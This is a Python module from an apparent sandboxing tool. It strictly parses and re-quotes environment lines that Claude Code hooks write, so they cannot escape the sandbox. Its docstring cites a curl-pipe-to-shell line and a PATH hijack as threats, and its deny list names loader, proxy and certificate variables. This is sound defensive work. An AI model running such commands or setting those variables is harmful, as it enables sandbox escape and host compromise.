"""`CLAUDE_ENV_FILE`: what a hook may hand on to the agent's later Bash commands.

Claude Code gives SessionStart, Setup, CwdChanged and FileChanged hooks a file in
`~/.claude/session-env/<session>/` and *sources it in bash, on the host,* before each of
its Bash commands. Whatever sandboxrun copies there is code the host runs: a hook that
writes `export X=$(curl x|sh)` or `export PATH=/repo/bin:$PATH` would step out of the
sandbox through the agent. So:

- the hook writes to a per-run, empty host file of ours, bound read-write at a neutral
  path (`TARGET`), never to the agent's file;
- afterwards the file is read (at most `MAX_BYTES`, else nothing is taken) and parsed
  strictly: each line `export NAME=VALUE` or `NAME=VALUE`, NAME an identifier not in
  `DENIED` (names that change which programs run or how shells and interpreters start),
  VALUE a literal: unquoted without shell metacharacters, or single or double quoted
  without `$`, backquotes or backslashes. Blank lines and `#` comments are skipped;
  anything else is refused and reported;
- accepted lines are appended, re-quoted with `shlex.quote`, to the agent's file, and
  only for hooks the user trusts (`run`: user, explicit and plugin hooks; `exec`: the
  command the user wrapped). The agent's file must be one Claude Code made: a regular
  file (or not yet there) in `~/.claude/session-env/`, so a variable a repository sets
  cannot point the copy at another file.
"""

from __future__ import annotations

import contextlib
import os
import re
import shlex
import stat
import tempfile
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from pathlib import Path

from ._mounts import under

# Where the hook finds its file inside the sandbox (bound to a host file of ours).
TARGET = "/run/sandboxrun/claude-env.sh"
VAR = "CLAUDE_ENV_FILE"
EVENTS = frozenset({"SessionStart", "Setup", "CwdChanged", "FileChanged"})
MAX_BYTES = 64 << 10  # a real env file is a few lines; more is refused whole
# Sources whose lines reach the agent's file (`run`); the others are reported, dropped.
TRUSTED_SOURCES = frozenset({"user", "explicit", "plugin"})

# Names that decide which programs run, how a shell or an interpreter starts, or what
# it loads: one place, matched exactly or (entries ending in `*`) by prefix.
DENIED = (
    "PATH", "LD_*", "BASH_ENV", "ENV", "BASH_FUNC_*", "PROMPT_COMMAND", "PROMPT_DIRTRIM",
    "IFS", "PS1", "PS2", "PS3", "PS4", "SHELLOPTS", "BASHOPTS", "CDPATH", "GLOBIGNORE",
    "HISTFILE", "HOME", "SHELL", "TMPDIR", "INPUTRC", "TERMINFO", "ZDOTDIR", "FPATH",
    "PYTHON*", "PIP_*", "UV_*", "VIRTUAL_ENV", "CONDA_*", "NODE_*", "NPM_CONFIG_*",
    "PERL5*", "PERLLIB", "PERL_*", "RUBY*", "GEM_*", "BUNDLE_*", "GIT_*", "SSH_*",
    "EDITOR", "VISUAL", "PAGER", "MANPAGER", "GIT_PAGER", "LESS*", "BROWSER",
    "JAVA_TOOL_OPTIONS", "_JAVA_OPTIONS", "JDK_JAVA_OPTIONS", "CLASSPATH",
    "DYLD_*", "GCONV_PATH", "LOCPATH", "NLSPATH", "MALLOC_*", "GLIBC_TUNABLES",
    "HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "NO_PROXY", "http_proxy", "https_proxy",
    "all_proxy", "no_proxy", "SSL_CERT_*", "CURL_CA_BUNDLE", "REQUESTS_CA_BUNDLE",
    "DOCKER_*", "KUBECONFIG", "CLAUDE_*", "ANTHROPIC_*", "SANDBOXRUN_*",
)  # fmt: skip
_NAME = re.compile(r"[A-Za-z_][A-Za-z0-9_]*")
_LINE = re.compile(r"(?:export[ \t]+)?([^=\s]+)=(.*)")
_PLAIN = re.compile(r"[A-Za-z0-9_@%+=:,./-]*")  # an unquoted value the shell keeps as is
_QUOTED = re.compile(r"'([^']*)'|\"([^\"$`\\]*)\"")


@dataclass(frozen=True, slots=True)
class Parsed:
    """What a hook's env file holds: the accepted (name, value) pairs, the refusals."""

    accepted: tuple[tuple[str, str], ...] = ()
    refused: tuple[str, ...] = ()

    def lines(self) -> list[str]:
        """The accepted pairs as the agent's file gets them: re-quoted, one a line."""
        return [f"export {name}={shlex.quote(value)}\n" for name, value in self.accepted]

    def report(self) -> dict[str, list[str]]:
        return {"copied": [n for n, _ in self.accepted], "refused": list(self.refused)}


def denied(name: str) -> bool:
    return any(name.startswith(d[:-1]) if d.endswith("*") else name == d for d in DENIED)


def parse(text: str) -> Parsed:
    """The strict reading of an env file (module docstring)."""
    accepted: list[tuple[str, str]] = []
    refused: list[str] = []
    for number, raw in enumerate(text.splitlines(), 1):
        line = raw.strip()
        if not line or line.startswith("#"):
            continue
        why = None
        match = _LINE.fullmatch(line)
        if match is None:
            why = "not an `export NAME=VALUE` line"
        elif not _NAME.fullmatch(match[1]):
            why = f"{match[1][:40]!r} is not a plain variable name"
        elif denied(match[1]):
            why = f"{match[1]} changes which programs run or how they start"
        else:
            value = _literal(match[2])
            if value is None or any(ord(c) < 0x20 or ord(c) == 0x7F for c in value):
                why = "the value is not a literal ($, backquotes, backslashes or shell syntax)"
            else:
                accepted.append((match[1], value))
                continue
        refused.append(f"line {number}: {why}")
    return Parsed(tuple(accepted), tuple(refused))


def _literal(text: str) -> str | None:
    """The value a literal VALUE stands for, or None when the shell would compute it."""
    if _PLAIN.fullmatch(text):
        return text
    parts = []
    position = 0
    for m in _QUOTED.finditer(text):  # 'a'"b"c: quoted runs, plain runs between them
        between = text[position : m.start()]
        if not _PLAIN.fullmatch(between):
            return None
        parts += [between, m[1] if m[1] is not None else m[2]]
        position = m.end()
    rest = text[position:]
    if position == 0 or not _PLAIN.fullmatch(rest):
        return None
    return "".join(parts) + rest


def new_file(uid: int, gid: int) -> str:
    """A new, empty host file for one hook run, writable only by the hook's uid, in a
    0700 folder of ours: no other process of that uid on the host can reach it."""
    folder = tempfile.mkdtemp(prefix="sandboxrun-env-")
    path = os.path.join(folder, "claude-env.sh")
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL | os.O_CLOEXEC, 0o600)
    try:
        if (os.getuid(), os.getgid()) != (uid, gid):
            os.fchown(fd, uid, gid)
    finally:
        os.close(fd)
    return path


def discard(path: str) -> None:
    """Remove a file of `new_file`, and its folder."""
    Path(path).unlink(missing_ok=True)
    with contextlib.suppress(OSError):
        os.rmdir(os.path.dirname(path))


def collect(path: str) -> Parsed:
    """Read back and parse what the hook wrote to `path`, then delete the file. Opened
    without following links or blocking; more than `MAX_BYTES` is refused whole."""
    try:
        fd = os.open(path, os.O_RDONLY | os.O_NOFOLLOW | os.O_NONBLOCK | os.O_CLOEXEC)
    except OSError as exc:
        discard(path)
        return Parsed(refused=(f"the env file could not be read: {exc.strerror}",))
    try:
        with os.fdopen(fd, "rb") as f:
            if not stat.S_ISREG(os.fstat(f.fileno()).st_mode):
                return Parsed(refused=("the env file is not a regular file",))
            raw = f.read(MAX_BYTES + 1)
    finally:
        discard(path)
    if len(raw) > MAX_BYTES:
        return Parsed(refused=(f"the env file holds more than {MAX_BYTES} bytes: nothing taken",))
    return parse(raw.decode("utf-8", "replace"))


def agent_file(path: str | None, home: str, user_dir: str = ".claude") -> str | None:
    """`path` when it may receive lines: the agent's own session-env file (see module
    docstring); None (with nothing to copy to) when not given. `ValueError` says why a
    given path is refused."""
    if not path:
        return None
    if not os.path.isabs(path) or "\0" in path:
        raise ValueError(f"{VAR} {path!r} is not an absolute path")
    folder = os.path.realpath(os.path.join(home, user_dir, "session-env"))
    real_parent = os.path.realpath(os.path.dirname(path))
    if not under(real_parent, (folder,)):
        raise ValueError(f"{VAR} {path!r} is not in the agent's session-env folder {folder}")
    try:
        mode = os.lstat(path).st_mode
    except FileNotFoundError:
        return path
    if not stat.S_ISREG(mode):
        raise ValueError(f"{VAR} {path!r} is not a regular file")
    return path


def append(target: str, lines: Iterable[str]) -> None:
    """Append `lines` to the agent's file (made 0600 if missing), never through a link."""
    text = "".join(lines)
    if not text:
        return
    flags = os.O_WRONLY | os.O_APPEND | os.O_CREAT | os.O_NOFOLLOW | os.O_CLOEXEC
    fd = os.open(target, flags | os.O_NONBLOCK, 0o600)
    with os.fdopen(fd, "a", encoding="utf-8") as f:
        if not stat.S_ISREG(os.fstat(f.fileno()).st_mode):
            raise OSError(f"{target} is not a regular file")
        f.write(text)


def copied_lines(parsed: Sequence[Parsed]) -> list[str]:
    return [line for p in parsed for line in p.lines()]
